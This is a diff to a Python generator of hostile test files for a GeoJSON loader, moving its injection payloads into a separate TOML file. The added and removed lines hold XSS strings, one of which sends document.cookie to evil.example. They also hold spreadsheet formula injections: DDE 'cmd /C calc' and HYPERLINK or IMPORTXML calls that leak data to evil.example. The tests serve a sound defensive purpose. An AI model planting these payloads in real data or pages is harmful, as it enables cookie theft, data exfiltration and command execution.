@@ -14,8 +14,9 @@ must load (exit 0) and keep the text listed in ``columns`` exactly, feature by f
 
 The corpus complements ``tests/data/bad/`` (one broken file per rule) with files built by
 someone trying to break the loader: malformed or exotic encodings, numbers JSON parsers
-disagree on, injection payloads, invisible characters, and sizes meant to hurt.
-Same script, same bytes: ``tests/test_hostile_inputs.py`` regenerates it and compares.
+disagree on, injection payloads (``tools/hostile_payloads.toml``), invisible characters, and sizes
+meant to hurt. Same script and payloads, same bytes: ``tests/test_hostile_inputs.py`` regenerates
+it and compares.
 
 Text policy (see ``siting.text.UNSAFE_CHARS``): C0/C1 control characters (tab and newline
 included), bidi embeddings/overrides/isolates (U+202A-U+202E, U+2066-U+2069), U+200B,
@@ -30,11 +31,13 @@ from __future__ import annotations
 import argparse
 import codecs
 import json
+import tomllib
 from pathlib import Path
 
 ROOT = Path(__file__).resolve().parent.parent
 OUT = ROOT / "tests" / "data" / "hostile"
 DROP = object()  # property value meaning "leave the key out"
+PAYLOADS = tomllib.loads(Path(__file__).with_name("hostile_payloads.toml").read_text(encoding="utf-8"))
 
 CASES: dict[str, bytes] = {}
 EXPECTED: dict[str, dict] = {}
@@ -241,31 +244,15 @@ case("site_id_log_forging.geojson",
      ["2 problems", "field `site_id`", "U+000A", "field `power_mw`"], absent=["\nsite_id_log_forging.geojson: OK"])
 
 # ---------------------------------------------------------------------------------------------
-# Injection payloads: legal text, so each file also carries one real schema error
+# Injection payloads (tools/hostile_payloads.toml): legal text, so each file also carries one real schema error
 # ---------------------------------------------------------------------------------------------
 HTML_ID = "\"><img src=x onerror=alert(document.cookie)>-hostile-site-identifier-0001"
-HTML = {
-    "name": "<script>alert(\"name\")</script><img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\">",
-    "commune": "<iframe src=\"javascript:alert('commune')\" width=999 height=999></iframe>",
-    "department": "<svg/onload=alert()>",
-    "evidence_note": "</textarea><style>*{display:none}</style><a href=\"javascript:alert('note')\">x</a>{{7*7}}${7*7}",
-    "developer": "<details open ontoggle=alert('developer')><summary>Acme & Co</summary></details>",
-    "status": "[click me](javascript:alert('status')) **bold** <marquee>planned</marquee> | pipe | ` tick",
-    "value_notes": "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
-}
+HTML = PAYLOADS["html"]  # one payload a text field
 _evidence = "official<script>alert('evidence')</script><img src=x onerror=alert('evidence')>"
 case("html_payloads_every_field.geojson", dump(fc(site(0, **HTML, evidence=_evidence))),
      ["1 problem", "field `evidence`", "`official`"], absent=[_evidence, *HTML.values()])
 FORMULA_ID = "=cmd|' /C calc'!A0"
-FORMULAS = {
-    "name": "=HYPERLINK(\"https://evil.example/?leak=\"&A1;\"Click for the site details\")",
-    "commune": "+cmd|' /C notepad'!A0",
-    "department": "-2+3",
-    "evidence_note": "@SUM(1+9)*cmd|' /C calc'!A0",
-    "developer": "\uff1dHYPERLINK(\"https://evil.example\")",
-    "status": "=1+1",
-    "value_notes": "=IMPORTXML(CONCAT(\"https://evil.example/?v=\",A2),\"//a\")",
-}
+FORMULAS = PAYLOADS["formulas"]
 _region = "=HYPERLINK(\"https://evil.example/region?leak=0001\",\"Île-de-France\")"
 case("formula_payloads.geojson", dump(fc(site(0, **FORMULAS, region=_region))),
      ["1 problem", "field `region`", "expected one of"],
